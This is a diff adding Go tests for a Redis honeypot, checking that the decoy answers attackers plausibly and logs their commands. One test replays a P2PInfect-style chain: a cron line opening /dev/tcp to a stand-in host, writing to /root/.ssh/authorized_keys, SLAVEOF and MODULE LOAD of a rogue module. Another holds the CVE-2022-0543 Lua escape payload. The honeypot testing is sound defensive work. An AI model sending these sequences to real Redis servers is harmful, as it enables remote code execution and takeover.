@@ -1,0 +1,214 @@
+package redis
+
+import (
+	"bufio"
+	"net"
+	"reflect"
+	"strings"
+	"testing"
+
+	"decoydb/internal/core"
+	"decoydb/internal/hptest"
+)
+
+func redisInfo() core.Info {
+	return core.Info{DBMS: core.Redis, Level: core.Medium, Port: 6379, Config: core.ConfigDefault, Group: core.GroupMedium}
+}
+
+// client is a minimal RESP client for driving the honeypot in tests.
+type client struct {
+	t  *testing.T
+	br *bufio.Reader
+	c  net.Conn
+}
+
+func newClient(t *testing.T, c net.Conn) *client {
+	return &client{t: t, br: bufio.NewReader(c), c: c}
+}
+
+func (cl *client) do(args ...string) Value {
+	cl.t.Helper()
+	if _, err := cl.c.Write(EncodeCommand(args...)); err != nil {
+		cl.t.Fatalf("write %v: %v", args, err)
+	}
+	v, err := ReadValue(cl.br)
+	if err != nil {
+		cl.t.Fatalf("read reply to %v: %v", args, err)
+	}
+	return v
+}
+
+func TestHoneypotSessionBasics(t *testing.T) {
+	hp := New(Options{})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		cl := newClient(t, conn)
+		if v := cl.do("PING"); v.Str != "PONG" {
+			t.Errorf("PING = %#v", v)
+		}
+		if v := cl.do("SET", "x", "payload"); v.Str != "OK" {
+			t.Errorf("SET = %#v", v)
+		}
+		if v := cl.do("GET", "x"); v.Str != "payload" {
+			t.Errorf("GET = %#v", v)
+		}
+		if v := cl.do("INFO"); !strings.Contains(v.Str, "redis_version:"+Version) {
+			t.Errorf("INFO missing version: %q", v.Str)
+		}
+		if v := cl.do("AUTH", "hunter2"); v.Kind != ErrorString {
+			t.Errorf("AUTH = %#v", v)
+		}
+	})
+	cmds := hptest.Commands(events)
+	want := []string{"PING", "SET", "GET", "INFO", "AUTH"}
+	if !reflect.DeepEqual(cmds, want) {
+		t.Fatalf("commands = %v, want %v", cmds, want)
+	}
+	if len(hptest.EventsOfKind(events, core.EventConnect)) != 1 {
+		t.Fatal("missing connect event")
+	}
+	if len(hptest.EventsOfKind(events, core.EventClose)) != 1 {
+		t.Fatal("missing close event")
+	}
+}
+
+// TestP2PInfectSequence replays the command shape of the paper's Listing 1
+// and checks the honeypot keeps the attacker engaged and the session
+// captures the normalised exploit actions.
+func TestP2PInfectSequence(t *testing.T) {
+	hp := New(Options{})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		cl := newClient(t, conn)
+		cl.do("INFO", "server")
+		cl.do("FLUSHDB")
+		cl.do("SET", "x", "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080\n\n")
+		cl.do("CONFIG", "SET", "rdbcompression", "no")
+		cl.do("CONFIG", "SET", "dir", "/root/.ssh/")
+		cl.do("CONFIG", "SET", "dbfilename", "authorized_keys")
+		cl.do("SAVE")
+		cl.do("CONFIG", "SET", "dir", "/tmp/")
+		cl.do("CONFIG", "SET", "dbfilename", "exp.so")
+		if v := cl.do("SLAVEOF", "198.51.100.1", "8080"); v.Str != "OK" {
+			t.Errorf("SLAVEOF = %#v", v)
+		}
+		if v := cl.do("MODULE", "LOAD", "/tmp/exp.so"); v.Str != "OK" {
+			t.Errorf("MODULE LOAD = %#v", v)
+		}
+		cl.do("SLAVEOF", "NO", "ONE")
+		cl.do("system.exec", "rm -rf /tmp/exp.so")
+		cl.do("MODULE", "UNLOAD", "system")
+	})
+	cmds := hptest.Commands(events)
+	want := []string{
+		"INFO", "FLUSHDB", "SET",
+		"CONFIG SET rdbcompression", "CONFIG SET dir", "CONFIG SET dbfilename",
+		"SAVE", "CONFIG SET dir", "CONFIG SET dbfilename",
+		"SLAVEOF", "MODULE LOAD", "SLAVEOF NO ONE", "SYSTEM.EXEC", "MODULE UNLOAD",
+	}
+	if !reflect.DeepEqual(cmds, want) {
+		t.Fatalf("commands = %v\nwant %v", cmds, want)
+	}
+}
+
+func TestFakeDataTypeProbing(t *testing.T) {
+	hp := New(Options{FakeData: map[string]string{
+		"user:001": "alice:s3cret",
+		"user:002": "bob:hunter2",
+	}})
+	hp.Store().SetHash("session:9", map[string]string{"token": "zz"})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		cl := newClient(t, conn)
+		keys := cl.do("KEYS", "*")
+		if len(keys.Array) != 3 {
+			t.Fatalf("KEYS = %#v", keys)
+		}
+		// The paper observed adversaries TYPE-probing every fake entry.
+		for _, k := range keys.Array {
+			cl.do("TYPE", k.Str)
+		}
+		if v := cl.do("TYPE", "user:001"); v.Str != "string" {
+			t.Errorf("TYPE user = %#v", v)
+		}
+		if v := cl.do("TYPE", "session:9"); v.Str != "hash" {
+			t.Errorf("TYPE hash = %#v", v)
+		}
+	})
+	var typeCount int
+	for _, c := range hptest.Commands(events) {
+		if c == "TYPE" {
+			typeCount++
+		}
+	}
+	if typeCount != 5 {
+		t.Fatalf("TYPE count = %d, want 5", typeCount)
+	}
+}
+
+func TestCVE20220543Probe(t *testing.T) {
+	hp := New(Options{})
+	lua := `local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res`
+	hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		cl := newClient(t, conn)
+		v := cl.do("EVAL", lua, "0")
+		if !strings.Contains(v.Str, "uid=") {
+			t.Fatalf("EVAL reply = %#v, want id output", v)
+		}
+	})
+}
+
+func TestProtocolErrorLogged(t *testing.T) {
+	hp := New(Options{})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		// An oversized bulk declaration: hostile framing.
+		if _, err := conn.Write([]byte("$999999999\r\n")); err != nil {
+			t.Fatal(err)
+		}
+		br := bufio.NewReader(conn)
+		v, err := ReadValue(br)
+		if err != nil {
+			t.Fatalf("expected error reply, got %v", err)
+		}
+		if v.Kind != ErrorString {
+			t.Fatalf("reply = %#v", v)
+		}
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "PROTOCOL-ERROR" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestJDWPHandshakeOnRedis(t *testing.T) {
+	// Paper Listing 11: a JDWP handshake hits Redis; it is invalid inline
+	// syntax and should surface as an unknown command, not kill the
+	// session.
+	hp := New(Options{})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		if _, err := conn.Write([]byte("JDWP-Handshake\r\n")); err != nil {
+			t.Fatal(err)
+		}
+		v, err := ReadValue(bufio.NewReader(conn))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if v.Kind != ErrorString {
+			t.Fatalf("reply = %#v", v)
+		}
+	})
+	cmds := hptest.Commands(events)
+	if len(cmds) != 1 || cmds[0] != "JDWP-HANDSHAKE" {
+		t.Fatalf("commands = %v", cmds)
+	}
+}
+
+func TestQuitClosesSession(t *testing.T) {
+	hp := New(Options{})
+	events := hptest.Run(t, hp.Handler(), redisInfo(), func(t *testing.T, conn net.Conn) {
+		cl := newClient(t, conn)
+		if v := cl.do("QUIT"); v.Str != "OK" {
+			t.Fatalf("QUIT = %#v", v)
+		}
+	})
+	if got := hptest.Commands(events); len(got) != 1 || got[0] != "QUIT" {
+		t.Fatalf("commands = %v", got)
+	}
+}
